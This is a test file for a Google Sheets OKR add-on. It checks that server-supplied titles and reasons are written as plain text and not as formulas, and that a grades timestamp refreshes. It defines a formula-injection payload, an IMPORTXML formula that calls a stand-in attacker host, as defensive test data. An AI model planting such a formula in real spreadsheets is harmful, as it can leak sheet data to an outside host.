// Every text the server supplies lands as text on every sheet the add-on writes: a title, reason or note
// starting with "=" stays a string (no formula) in the grades table, its chart data, the KR history and the
// changes audit. And OKR_GRADE recalculates after each grades pull through OKR_GRADES_PULLED_AT.
import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type vm from 'node:vm';
import type { GradesReport } from '@okr-ledger/api-contract';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildAddon } from '../../../addon/build.js';
import { SheetsGateway } from '../../../addon/src/adapters/spreadsheet.js';
import { gradesPlan } from '../../../addon/src/core/reports/grades.js';
import { createAppsScriptEnvironment, type FakeSheet } from '../../support/apps-script/index.js';
import { API_URL, FakeOkrApi } from './fake-api.js';
import { sampleBoard } from './fixtures.js';

const FORMULA_LIKE = '=IMPORTXML("https://evil.example","//a")';

const report: GradesReport = {
  cycleId: '2026-Q4',
  status: 'closed',
  frozen: true,
  rows: [
    {
      targetType: 'objective',
      objectiveId: 'obj_growth001',
      keyResultId: null,
      title: FORMULA_LIKE,
      owner: '+ana@example.com',
      team: '-Growth',
      kind: 'committed',
      weight: 1,
      computed: 0.5,
      original: 0.5,
      override: 0.6,
      overrideReason: FORMULA_LIKE,
      final: 0.6,
      band: 'yellow',
      missedCommitment: true,
      flags: [],
      changedBy: [],
      valueSource: null,
    },
  ],
};

function formulas(sheet: FakeSheet): string[] {
  const view = sheet.inspect();
  return view
    .values()
    .flatMap((row, r) => row.map((_, c) => view.cell(`${String.fromCharCode(65 + c)}${r + 1}`).formula))
    .filter((formula) => formula !== '');
}

let code = '';

beforeAll(async () => {
  const built = await buildAddon({ outDir: await mkdtemp(path.join(tmpdir(), 'okr-addon-text-')) });
  code = await readFile(built.codePath, 'utf8');
});

describe('server text on the report sheets', () => {
  it('writes grades, their override reasons and chart data as text, never as formulas', () => {
    // Prepare
    const env = createAppsScriptEnvironment();
    const sheets = new SheetsGateway(
      env.globals.SpreadsheetApp as unknown as GoogleAppsScript.Spreadsheet.SpreadsheetApp,
    );

    // Act
    sheets.write(gradesPlan(report));

    // Assess
    const sheet = env.spreadsheet.getSheetByName('Grades 2026-Q4');
    if (sheet === null) throw new Error('no grades sheet');
    expect(formulas(sheet)).toEqual([]);
    const texts = sheet.inspect().values().flat();
    expect(texts.filter((cell) => cell === FORMULA_LIKE)).toHaveLength(3); // title, reason, chart data
    expect(texts).toContain('+ana@example.com');
    expect(texts).toContain('-Growth');
  });

  it('points OKR_GRADES_PULLED_AT at a stamp that changes with every grades pull', () => {
    // Prepare
    const api = new FakeOkrApi(sampleBoard());
    api.grades = { ...report, rows: report.rows.map((row) => ({ ...row, title: 'Delight customers' })) };
    let now = new Date('2026-12-31T10:00:00Z');
    const env = createAppsScriptEnvironment({ fetch: api.handler, now: () => now });
    env.properties.document.setProperty('okrLedger.apiUrl', API_URL);
    env.properties.document.setProperty('okrLedger.organization', 'acme');
    const script = env.load(code) as vm.Context & Record<string, (...args: unknown[]) => unknown>;
    const stamp = () => env.spreadsheet.getRangeByName('OKR_GRADES_PULLED_AT')?.getValue();

    // Act
    env.ui.queuePromptResponse('');
    script.showGrades();
    const first = stamp();
    now = new Date('2026-12-31T11:00:00Z');
    env.ui.queuePromptResponse('');
    script.showGrades();

    // Assess
    expect(first).toBe('2026-12-31T10:00:00.000Z');
    expect(stamp()).toBe('2026-12-31T11:00:00.000Z');
    expect(env.runAsCustomFunction(() => script.OKR_GRADE('obj_growth001', '2026-Q4', stamp()))).toBe(0.6);
    expect(env.ui.toasts.at(-1)?.message).toContain('=OKR_GRADE(id, , OKR_GRADES_PULLED_AT)');
  });
});
